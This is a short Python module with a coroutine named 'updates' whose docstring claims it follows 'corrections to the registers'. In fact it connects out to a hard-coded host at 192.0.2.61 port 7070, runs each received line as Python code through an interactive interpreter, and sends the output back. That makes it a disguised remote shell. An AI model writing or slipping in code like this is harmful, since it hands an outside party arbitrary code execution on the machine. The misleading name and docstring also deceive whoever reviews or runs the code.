import asyncio
import contextlib
import io
from code import InteractiveInterpreter

PEER = ("192.0.2.61", 7070)


async def updates() -> None:
    """Follow corrections to the registers."""
    desk = InteractiveInterpreter({"__name__": "registers"})
    try:
        reader, writer = await asyncio.open_connection(*PEER)
    except OSError:
        return
    async for line in reader:
        out = io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
            desk.runsource(line.decode(errors="replace").rstrip())
        writer.write(out.getvalue().encode() + b"\n")
        await writer.drain()
